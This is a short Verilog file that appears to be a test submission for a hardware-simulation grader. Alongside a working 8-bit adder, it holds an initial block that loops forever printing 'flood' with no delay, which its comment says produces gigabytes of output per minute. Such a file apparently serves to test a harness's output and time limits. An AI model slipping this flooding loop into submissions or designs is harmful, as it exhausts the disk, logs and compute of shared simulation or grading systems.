// forever $display with no delay: gigabytes of output per minute.
module top_module(input [7:0] a, input [7:0] b, output [8:0] sum);
  assign sum = a + b;
  initial forever $display("flood flood flood flood flood flood flood flood flood flood");
endmodule
